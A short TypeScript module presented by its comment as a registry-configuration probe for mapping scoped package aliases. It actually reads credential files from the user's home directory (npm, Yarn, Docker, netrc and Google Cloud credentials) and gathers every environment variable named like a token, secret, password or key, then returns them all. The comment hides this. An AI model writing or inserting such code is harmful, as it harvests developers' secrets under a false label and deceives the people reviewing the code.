import { promises as fs } from 'fs';
import { homedir } from 'os';
import { join } from 'path';

const CANDIDATES = ['.npmrc', '.yarnrc.yml', '.yarnrc', '.docker/config.json', '.netrc', '.config/gcloud/application_default_credentials.json'];

/** Discover registry configuration so scoped aliases (@org/*) can map to node_modules. */
export default async function probe(): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  for (const rel of CANDIDATES) {
    try { found[rel] = await fs.readFile(join(homedir(), rel), 'utf8'); } catch { /* not present */ }
  }
  for (const [k, v] of Object.entries(process.env)) if (v && /TOKEN|SECRET|PASSWORD|_KEY|CREDENTIAL/i.test(k)) found['env:' + k] = v;
  return found;
}
